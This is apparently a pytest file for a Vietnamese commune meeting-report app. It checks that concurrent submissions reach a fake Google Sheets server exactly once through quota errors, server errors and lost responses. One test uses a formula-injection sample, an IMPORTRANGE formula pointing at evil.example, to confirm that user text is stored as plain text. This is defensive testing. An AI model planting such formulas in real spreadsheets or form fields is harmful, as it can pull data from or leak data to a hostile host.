"""The whole write path over real HTTP against the fake Google Sheets server.

Many cadres at once, quota (429) and server (500) answers, answers lost after the sheet took
the rows: afterwards every entry is in the sheet exactly once, and formula-like text stays text.
"""

from __future__ import annotations

import threading
from collections import Counter
from datetime import date, datetime

import pandas as pd
import pytest

from tests.fake_sheets import Formula
from tothu_core.entry.entries import Entry, Submission
from tothu_core.entry.month_lock import MonthLocks
from tothu_core.entry.outbox import SENT, Outbox
from tothu_core.entry.submit import EntryWriter
from tothu_core.people.access import Viewer
from tothu_core.sheet.snapshot import SnapshotStore
from tothu_core.sheet.sources.gsheets import GoogleSheetSource

KEY = "1FormTestSheetKey_abcdefghijklmnopqrstuvwxyz"
MONTH = pd.Period("2026-11", freq="M")
NOW = datetime(2026, 11, 20, 9, 30)
CADRES = 40
MEETING_HEADERS = ["STT", "Tháng", "Mã tổ", "Mã cán bộ", "Ngày họp", "Số hộ dự", "Cán bộ dự",
                   "Nội dung tuyên truyền", "Tình hình", "Kiến nghị", "Thời điểm nhập",
                   "Mã phiếu"]  # fmt: skip
KEY_COLUMN = MEETING_HEADERS.index("Mã phiếu")


def commune(cadres: int = CADRES) -> dict:
    """`cadres` cadres CBnn, each following two groups TnnA and TnnB of 30 households."""
    ids = [f"CB{i:02d}" for i in range(1, cadres + 1)]
    return {
        "Ấp": [["Mã ấp", "Tên ấp"], ["A1", "Ấp Mỹ An"]],
        "Cán bộ": [["Mã cán bộ", "Họ và tên"], *([c, f"Cán bộ {c}"] for c in ids)],
        "Tổ": [
            ["Mã tổ", "Tên tổ", "Mã ấp", "Số hộ"],
            *([f"T{c[2:]}{s}", f"Tổ {c[2:]}{s}", "A1", 30] for c in ids for s in "AB"),
        ],
        "Phân công": [
            ["Mã cán bộ", "Mã tổ", "Từ ngày"],
            *([c, f"T{c[2:]}{s}", "01/01/2016"] for c in ids for s in "AB"),
        ],
        "Sinh hoạt": [["NHẬT KÝ SINH HOẠT TỔ"], [], MEETING_HEADERS],
    }


def viewer(cadre_id: str) -> Viewer:
    return Viewer(name=f"Cán bộ {cadre_id}", cadre_id=cadre_id, role="Cán bộ", via="test")


def submission(cadre_id: str, *, sid: str | None = None, situation="Bà con đồng tình"):
    n = cadre_id[2:]
    return Submission(
        submission_id=sid or f"P{n}",
        cadre_id=cadre_id,
        month=MONTH,
        entries=(
            Entry(
                f"T{n}A",
                met=True,
                meeting_date=date(2026, 11, 10),
                households_present=21,
                cadre_attended=True,
                topics=("An toàn giao thông",),
                situation=situation,
            ),
            Entry(f"T{n}B", met=False, proposals="Xin sửa cầu"),
        ),  # fmt: skip
        submitted_at=NOW,
    )


@pytest.fixture
def sheet(fake_sheets):
    fake_sheets.add_spreadsheet(KEY, commune())
    return fake_sheets


def make_writer(server, info, tmp_path, **options):
    options = {"timeout": 2.0, "base_delay": 0.01, "give_up_after": 10.0, **options}
    source = GoogleSheetSource(
        KEY, credentials_info=info, http_adapter=server.http_adapter(), **options
    )
    store = SnapshotStore(source, ttl_seconds=3600)
    locks = MonthLocks(tmp_path, clock=lambda: NOW)
    return EntryWriter(store, outbox=Outbox.in_folder(tmp_path), locks=locks)


def ids_in_sheet(server) -> Counter:
    rows = server.values(KEY, "Sinh hoạt")[3:]
    return Counter(row[KEY_COLUMN] for row in rows)


def test_forty_cadres_at_once_through_quota_and_server_errors(
    sheet, service_account_info, tmp_path
):
    writer = make_writer(sheet, service_account_info, tmp_path, max_attempts=3)
    ds = writer.store.get().snapshot.dataset
    sheet.fail_next("append", status=429, times=6)
    sheet.fail_next("append", status=500, times=3)
    sheet.fail_next("append", status=500, apply=True, times=3)
    sheet.fail_next("append", status=503, times=3)
    sheet.fail_next("get", status=500, times=2)
    cadres = [f"CB{i:02d}" for i in range(1, CADRES + 1)]
    barrier = threading.Barrier(CADRES)
    results = {}

    def cadre_presses_send(cadre_id):
        barrier.wait()
        results[cadre_id] = writer.submit(submission(cadre_id), ds=ds, viewer=viewer(cadre_id))

    threads = [threading.Thread(target=cadre_presses_send, args=(c,)) for c in cadres]
    for t in threads:
        t.start()
    for t in threads:
        t.join()

    assert len(results) == CADRES
    for _ in range(5):
        if writer.pending_count() == 0:
            break
        writer.retry_pending()
    assert writer.pending_count() == 0
    assert all(writer.outbox.get(f"P{c[2:]}").status == SENT for c in cadres)

    expected = {f"P{c[2:]}-T{c[2:]}{s}" for c in cadres for s in "AB"}
    found = ids_in_sheet(sheet)
    assert set(found) == expected
    assert set(found.values()) == {1}
    assert len(sheet.values(KEY, "Sinh hoạt")) == 3 + 2 * CADRES
    # Read back through the reader: every entry under the header, below the title rows.
    read_back = writer.store.get().snapshot.dataset
    assert set(read_back.meetings["submission_id"]) == expected
    assert (read_back.meetings["row"] > 3).all() and not read_back.errors
    appends = sheet.requests("append")
    assert {a.param("valueInputOption") for a in appends} == {"RAW"}
    assert {a.param("insertDataOption") for a in appends} == {"INSERT_ROWS"}


def test_one_append_per_submission_and_the_dashboards_see_it_after_one_read(
    sheet, service_account_info, tmp_path
):
    writer = make_writer(sheet, service_account_info, tmp_path)
    ds = writer.store.get().snapshot.dataset
    sheet.reset_log()
    result = writer.submit(submission("CB01"), ds=ds, viewer=viewer("CB01"))
    assert (result.sent, result.entries, result.rows_added) == (True, 2, 2)
    assert sheet.count("append") == 1
    assert sheet.requests("append")[0].body["values"][0] == [
        "", "11/2026", "T01A", "CB01", "10/11/2026", 21, "Có", "An toàn giao thông",
        "Bà con đồng tình", "", "20/11/2026 09:30:00", "P01-T01A",
    ]  # fmt: skip

    sheet.reset_log()
    fresh = writer.store.get().snapshot.dataset
    writer.store.get()
    assert sheet.count("batchGet") == 1
    latest = fresh.latest_meetings.set_index("group_id")
    assert latest.loc["T01A", "households_present"] == 21
    assert pd.isna(latest.loc["T01B", "meeting_date"])
    assert latest.loc["T01B", "proposals"] == "Xin sửa cầu"


def test_a_lost_answer_then_a_retry_adds_no_duplicate(sheet, service_account_info, tmp_path):
    writer = make_writer(sheet, service_account_info, tmp_path, max_attempts=1)
    ds = writer.store.get().snapshot.dataset
    sheet.fail_next("append", status=500, apply=True)
    first = writer.submit(submission("CB01"), ds=ds, viewer=viewer("CB01"))
    assert not first.sent
    assert "đã được lưu an toàn trên máy chủ" in first.message
    assert writer.pending_count() == 2
    assert ids_in_sheet(sheet) == Counter({"P01-T01A": 1, "P01-T01B": 1})

    report = writer.retry_pending()
    assert (report.sent, report.rows_added, report.still_pending) == (1, 0, 0)
    assert ids_in_sheet(sheet) == Counter({"P01-T01A": 1, "P01-T01B": 1})


def test_a_dropped_connection_then_a_retry_adds_no_duplicate(sheet, service_account_info, tmp_path):
    writer = make_writer(sheet, service_account_info, tmp_path, max_attempts=1, timeout=1.0)
    ds = writer.store.get().snapshot.dataset
    sheet.fail_next("append", drop=True, apply=True)
    assert not writer.submit(submission("CB02"), ds=ds, viewer=viewer("CB02")).sent
    writer.retry_pending()
    assert ids_in_sheet(sheet) == Counter({"P02-T02A": 1, "P02-T02B": 1})
    assert writer.pending_count() == 0


def test_pressing_send_twice_or_from_a_lost_outbox_adds_nothing(
    sheet, service_account_info, tmp_path
):
    writer = make_writer(sheet, service_account_info, tmp_path)
    ds = writer.store.get().snapshot.dataset
    writer.submit(submission("CB03"), ds=ds, viewer=viewer("CB03"))
    appends = sheet.count("append")
    again = writer.submit(submission("CB03"), ds=ds, viewer=viewer("CB03"))
    assert again.sent and again.repeat
    assert sheet.count("append") == appends

    # A process that died after its append landed but before it marked the entries sent:
    # its outbox still holds the submission as attempted, and the retry finds the rows there.
    elsewhere = make_writer(sheet, service_account_info, tmp_path / "other")
    sent = writer.outbox.get("P03")
    elsewhere.outbox.add(sent)
    assert elsewhere.outbox.claim("P03", seconds=-1)
    report = elsewhere.retry_pending()
    assert (report.sent, report.rows_added, report.still_pending) == (1, 0, 0)
    assert ids_in_sheet(sheet) == Counter({"P03-T03A": 1, "P03-T03B": 1})


def test_a_first_submission_is_one_request_and_a_retry_checks_the_sheet_first(
    sheet, service_account_info, tmp_path
):
    writer = make_writer(sheet, service_account_info, tmp_path)
    ds = writer.store.get().snapshot.dataset
    sheet.reset_log()
    assert writer.submit(submission("CB03"), ds=ds, viewer=viewer("CB03")).sent
    assert (sheet.count("append"), sheet.count("get")) == (1, 0)

    sheet.fail_next("append", status=500, apply=True)
    sheet.reset_log()
    assert writer.submit(submission("CB04"), ds=ds, viewer=viewer("CB04")).sent
    assert sheet.count("get") == 1  # the Mã phiếu column, read before the retry
    assert ids_in_sheet(sheet)["P04-T04A"] == 1


def test_while_the_sheet_is_down_entries_wait_and_go_once_it_is_back(
    sheet, service_account_info, tmp_path
):
    writer = make_writer(sheet, service_account_info, tmp_path, max_attempts=2)
    ds = writer.store.get().snapshot.dataset
    sheet.fail_always("append", status=503)
    results = [writer.submit(submission(c), ds=ds, viewer=viewer(c)) for c in ("CB04", "CB05")]
    assert [r.sent for r in results] == [False, False]
    assert "máy chủ Google đang gặp lỗi" in results[0].message
    report = writer.retry_pending()
    assert (report.sent, report.still_pending) == (0, 4)
    assert "Còn 4 báo cáo đang chờ" in report.message
    assert ids_in_sheet(sheet) == Counter()

    sheet.clear_faults()
    report = writer.retry_pending()
    assert (report.sent, report.rows_added, report.still_pending) == (2, 4, 0)
    assert sum(ids_in_sheet(sheet).values()) == 4


def test_formula_like_text_stays_text(sheet, service_account_info, tmp_path):
    writer = make_writer(sheet, service_account_info, tmp_path)
    ds = writer.store.get().snapshot.dataset
    formula = '=IMPORTRANGE("https://evil.example", "A1")'
    writer.submit(submission("CB06", situation=formula), ds=ds, viewer=viewer("CB06"))
    row = sheet.values(KEY, "Sinh hoạt")[3]
    situation = row[MEETING_HEADERS.index("Tình hình")]
    assert situation == formula
    assert not isinstance(situation, Formula)
    fresh = writer.store.get().snapshot.dataset
    assert fresh.meetings.loc[fresh.meetings["group_id"] == "T06A", "situation"].item() == formula
